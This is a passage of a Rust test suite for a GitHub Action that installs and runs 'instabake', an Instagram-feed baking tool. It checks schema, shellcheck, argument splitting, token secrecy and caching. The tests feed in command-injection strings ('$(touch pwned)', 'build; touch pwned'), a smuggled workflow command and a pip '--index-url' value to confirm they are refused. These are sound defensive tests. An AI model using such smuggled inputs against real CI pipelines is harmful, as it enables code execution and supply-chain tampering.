                if success { "succeeded" } else { "failed" }
            );
        }
    }
}

/// The runner's own check of an action's metadata, by its published JSON schema
/// (check-jsonschema's vendored copy: no network).
#[test]
fn the_action_matches_its_schema() {
    support::assert_matches_schema(
        "vendor.github-actions",
        &[root().join("action.yml")],
        "action.yml's inputs and steps",
    );
}

/// shellcheck reads each `run:` script as bash, as actionlint does for the workflows' scripts.
#[test]
fn the_action_scripts_pass_shellcheck() {
    if !support::runs("shellcheck", "--version") {
        support::skip(
            "shellcheck is not on PATH (apt-get install shellcheck), so the action's scripts \
             were not checked",
        );
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    for step in Action::load().steps {
        let Some(script) = step.run else { continue };
        let file = dir.path().join("step.sh");
        // The runner's `bash -eo pipefail`.
        fs::write(
            &file,
            format!("#!/usr/bin/env bash\nset -eo pipefail\n{script}"),
        )
        .unwrap();
        let out = Command::new("shellcheck").arg(&file).output().unwrap();
        assert!(
            out.status.success(),
            "{}: shellcheck:\n{}",
            step.name,
            String::from_utf8_lossy(&out.stdout)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// The inputs, against a stand-in instabake
// ---------------------------------------------------------------------------------------------

/// `args` is split like a shell command line, quotes and backslashes included, and nothing in it
/// is expanded or run; the command, the site and the token arrive as they should.
#[test]
fn args_are_split_into_words_and_nothing_in_them_runs() {
    let mut job = Job::new();
    let record = job.stand_in_instabake();
    let args = r#"--limit "2"  --preset 'hu go' $(touch pwned) `touch pwned` ~ * $HOME "a b"\ c it\'s
        --next-line ';' "semi;colon" '$(x)' # not-a-comment"#;
    let run = job.run_action_without(
        &[
            ("args", args),
            ("site", "./blog/"),
            ("command", "token  refresh"),
        ],
        &["install"],
    );
    run.assert_success();
    let argv = recorded_argv(&record).expect("instabake was run");
    assert_eq!(
        argv,
        [
            "token",
            "refresh",
            "--site",
            "blog",
            "--limit",
            "2",
            "--preset",
            "hu go",
            "$(touch",
            "pwned)",
            "`touch",
            "pwned`",
            "~",
            "*",
            "$HOME",
            "a b c",
            "it's",
            "--next-line",
            ";",
            "semi;colon",
            "$(x)",
            "#",
            "not-a-comment",
        ]
    );
    assert!(!job.workspace.join("pwned").exists());
    assert_eq!(run.output("cache-path"), "blog/.instabake");
    assert_eq!(
        run.output("cache-key"),
        format!("instabake-cache-{RUN_ID}-{RUN_ATTEMPT}")
    );
    // No build: no source.
    assert_eq!(run.output("source"), "");

    // Each spelling of the site gives one cache path.
    for (site, path, arg) in [
        (".", ".instabake", "."),
        ("./", ".instabake", "."),
        ("blog", "blog/.instabake", "blog"),
        ("./a/b//", "a/b/.instabake", "a/b"),
    ] {
        let run = job.run_action_without(&[("site", site)], &["install"]);
        run.assert_success();
        assert_eq!(run.output("cache-path"), path, "site {site:?}");
        let argv = recorded_argv(&record).unwrap();
        assert_eq!(argv[..3], ["build", "--site", arg], "site {site:?}");
        assert_eq!(run.uses("actions/cache/restore@v6").with["path"], path);
        assert_eq!(run.uses("actions/cache/save@v6").with["path"], path);
    }
}

/// The token reaches instabake as `INSTAGRAM_ACCESS_TOKEN` and nowhere else: not among its
/// arguments, not under another name, not in the log. Without the input, a token the job already
/// has is used.
#[test]
fn the_token_reaches_instabake_in_its_environment_only() {
    let mut job = Job::new();
    let record = job.stand_in_instabake();
    let run = job.run_action_without(&[("token", TOKEN)], &["install"]);
    run.assert_success();
    let argv = recorded_argv(&record).unwrap();
    assert!(argv.iter().all(|a| !a.contains(TOKEN)), "{argv:?}");
    assert_eq!(fs::read_to_string(record.join("token")).unwrap(), TOKEN);
    let names = fs::read_to_string(record.join("env-names")).unwrap();
    assert!(
        !names.lines().any(|n| n == "INSTABAKE_TOKEN"),
        "the token is also in instabake's environment under the action's own name"
    );
    assert!(!run.log.contains(TOKEN), "{}", run.log);
    assert_not_in_files(&job.workspace, TOKEN, &[]);
    assert_not_in_files(&job.runner_temp, TOKEN, &[]);

    fs::remove_file(record.join("token")).unwrap();
    job.env.insert(
        "INSTAGRAM_ACCESS_TOKEN".to_owned(),
        "from-the-job".to_owned(),
    );
    job.run_action_without(&[], &["install"]).assert_success();
    assert_eq!(
        fs::read_to_string(record.join("token")).unwrap(),
        "from-the-job"
    );
}

/// Inputs that could smuggle shell code, a flag, a line of workflow commands or a package
/// specifier in are refused before anything runs.
#[test]
fn inputs_that_could_smuggle_code_or_flags_in_are_refused() {
    let mut job = Job::new();
    let record = job.stand_in_instabake();
    let cases: &[(&[(&str, &str)], &str)] = &[
        (&[("command", "build; touch pwned")], "inputs"),
        (&[("command", "build\ntouch pwned")], "inputs"),
        (&[("command", "build --strict")], "inputs"),
        (&[("command", "$(touch pwned)")], "inputs"),
        (&[("command", "")], "inputs"),
        (&[("cache", "yes")], "inputs"),
        (&[("site", "blog\n::add-mask::x")], "inputs"),
        (&[("args", "--site elsewhere")], "run"),
        (&[("args", "--site=elsewhere")], "run"),
        (&[("args", "--limit 'unclosed")], "run"),
    ];
    for (with, failing) in cases {
        let run = job.run_action_without(with, &["install"]);
        assert!(!run.success, "{with:?} was accepted:\n{}", run.log);
        assert_eq!(
            run.step(failing).success,
            Some(false),
            "{with:?}:\n{}",
            run.log
        );
        assert!(
            run.log.contains("::error title=instabake action::"),
            "{with:?}:\n{}",
            run.log
        );
        assert_eq!(recorded_argv(&record), None, "{with:?}: instabake ran");
        assert!(!run.uses("actions/cache/save@v6").ran, "{with:?}");
        assert!(!job.workspace.join("pwned").exists(), "{with:?}");
    }
    // The version is checked before pip sees it.
    for version in [
        "1.0; touch pwned",
        ">=0",
        "0.1.0 --index-url=http://x",
        "$(touch pwned)",
    ] {
        let run = job.run_action(&[("version", version)]);
        assert_eq!(run.step("install").success, Some(false), "{version:?}");
        assert!(
            run.log.contains("the input version must be"),
            "{version:?}:\n{}",
            run.log
        );
        assert!(!job.workspace.join("pwned").exists());
    }
}

/// The `source` output comes from the feed line of instabake's step summary, which still reaches
/// the step summary; a failed command fails the step with instabake's exit code.
#[test]
fn the_source_output_says_where_the_feed_came_from() {
    let mut job = Job::new();
    job.stand_in_instabake();
    for (feed_from, source) in [
        ("live from the Instagram API", "live"),
        ("the cache: the API failed (the token is dead)", "cache"),
        ("the cache (offline, or within max_age)", "cache"),
        ("a recorded replay folder", "replay"),
        ("something new", ""),
    ] {
        let table =
            format!("### Instagram feed\n\n| | |\n| --- | --- |\n| Feed from | {feed_from} |");
        job.env.insert("STUB_SUMMARY".to_owned(), table.clone());
        let run = job.run_action_without(&[], &["install"]);
        run.assert_success();
        assert_eq!(run.output("source"), source, "{feed_from}");
        assert!(run.summary.contains(&table), "{}", run.summary);
    }
    job.env.insert("STUB_EXIT".to_owned(), "3".to_owned());
    let run = job.run_action_without(&[], &["install"]);
    assert!(!run.success);
    assert_eq!(run.step("run").success, Some(false));
    assert!(!run.uses("actions/cache/save@v6").ran);
    assert_eq!(run.output("source"), "");
    // The summary of a failed bake is not lost.
    assert!(
        run.summary.contains("### Instagram feed"),
        "{}",
        run.summary
    );
}

// ---------------------------------------------------------------------------------------------
// The real thing: the wheel, installed by the action, baking against the fake API
// ---------------------------------------------------------------------------------------------

#[test]
fn the_action_installs_the_wheel_and_bakes_with_the_token_from_its_input() {
    if !wheel::maturin_available() {
        support::skip(
            "maturin is not installed for python3 (pip install maturin, see .ci/run), so the \
             action was not run with the PyPI wheel",
        );
        return;
    }
    let wheel = wheel::wheel();
    let fake = FakeApi::start(
        Scenario::new()
            .posts(vec![
                Post::image("101").caption("first #bake"),
                Post::carousel("102", vec![Post::image("1021"), Post::image("1022")]),
                Post::image("103"),
            ])
            .refreshed_token(NEW_TOKEN, 60 * 24 * 3600),
    );
    let mut job = Job::new();
    job.offer_wheel(&wheel);
    job.env
        .insert("INSTABAKE_API_BASE".to_owned(), fake.base_url());
    let site = job.workspace.join("site");
    fs::create_dir(&site).unwrap();
    let inputs = [
        ("token", TOKEN),
        ("site", "./site/"),
        ("args", r#"--limit "2" --fail-if-token-expires-within '7'"#),
    ];
    let version = env!("CARGO_PKG_VERSION");
    let mut logs = Vec::new();

    // Used by a release tag: that release is installed, and the bake is live.
    let run = job.run_action(&inputs);
    logs.push(run.log.clone());
    run.assert_success();
    assert!(
        run.log
            .contains(&format!("Installing instabake {version}\n")),
        "{}",
        run.log
    );
    assert_eq!(run.output("version"), version);
    assert_eq!(run.output("source"), "live");
    assert_eq!(run.output("cache-path"), "site/.instabake");
    let data = support::read_data(&site);
    assert_eq!(support::post_ids(&data), ["101", "102"]);
    assert_eq!(data["source"], "live");
    support::assert_html_refs_exist(&site);
    assert!(site.join(".instabake").is_dir());
    fake.assert_token_only_sent_to_api();
    let key = format!("instabake-cache-{RUN_ID}-{RUN_ATTEMPT}");
    for (action, ran) in [
        ("actions/cache/restore@v6", true),
        ("actions/cache/save@v6", true),
    ] {
        let step = run.uses(action);
        assert_eq!(step.ran, ran, "{action}");
        assert_eq!(step.with["path"], "site/.instabake", "{action}");
        assert_eq!(step.with["key"], key, "{action}");
    }
    assert!(
        run.summary.contains("| Feed from | live"),
        "{}",
        run.summary
    );
    // Nothing was compiled, and later steps find the installed command first on PATH.
    assert!(
        !job.compiler_calls.exists(),
        "the install compiled: {}",
        fs::read_to_string(&job.compiler_calls).unwrap()
    );
    let found = job.later_step("command -v instabake\ninstabake --version\n");
    let venv_bin = job.runner_temp.join("instabake-venv/bin/instabake");
    assert!(
        found.starts_with(&format!("{}\ninstabake {version}\n", venv_bin.display())),
        "{found}"
    );

    // The API fails: the last good feed from the cache, with a warning, and saved again.
    fake.add_fault(Route::AnyApi, Fault::expired_token(), None);
    let run = job.run_action(&inputs);
    logs.push(run.log.clone());
    run.assert_success();
    assert_eq!(run.output("source"), "cache");
    assert!(run.log.contains("::warning"), "{}", run.log);
    assert!(run.uses("actions/cache/save@v6").ran);
    assert_eq!(
        support::post_ids(&support::read_data(&site)),
        ["101", "102"]
    );

    // --strict: the bake fails, so does the action, and nothing is saved.
    let strict = format!("{} --strict", inputs[2].1);
    let run = job.run_action(&[inputs[0], inputs[1], ("args", &strict)]);
    logs.push(run.log.clone());
    assert!(!run.success, "{}", run.log);
    assert_eq!(run.step("run").success, Some(false));
    assert!(!run.uses("actions/cache/save@v6").ran);
    assert!(run.log.contains("::error title=instabake::"), "{}", run.log);

    // The refresh workflow's use, by a branch (not a release): the latest release, the cache
    // restored and left to the workflow to save, the new token written where asked.
    fake.clear_faults();
    job.github
        .insert("action_ref".to_owned(), "main".to_owned());
    let token_file = job.runner_temp.join("token");
    let write_token = format!("--write-token '{}'", token_file.display());
    let run = job.run_action(&[
        ("command", "token refresh"),
        ("args", &write_token),
        ("token", TOKEN),
        ("site", "site"),
        ("cache", "restore"),
    ]);
    logs.push(run.log.clone());
    run.assert_success();
    assert_eq!(run.output("version"), version);
    assert_eq!(run.output("source"), "");
    assert!(run.log.contains("the latest release"), "{}", run.log);
    assert!(run.uses("actions/cache/restore@v6").ran);
    assert!(!run.uses("actions/cache/save@v6").ran);
    assert_eq!(fs::read_to_string(&token_file).unwrap().trim(), NEW_TOKEN);
    assert_eq!(fake.requests_to("/refresh_access_token").len(), 1);

    // Neither token in any log, or in any file but the one the new token was asked into.
    for log in &logs {
        for token in [TOKEN, NEW_TOKEN] {
            assert!(!log.contains(token), "a token in the log:\n{log}");
        }
    }
    for dir in [&job.workspace, &job.runner_temp, &job.home] {
        assert_not_in_files(dir, TOKEN, &[]);
        assert_not_in_files(dir, NEW_TOKEN, &[token_file.as_path()]);
    }
    assert!(!job.compiler_calls.exists());
}
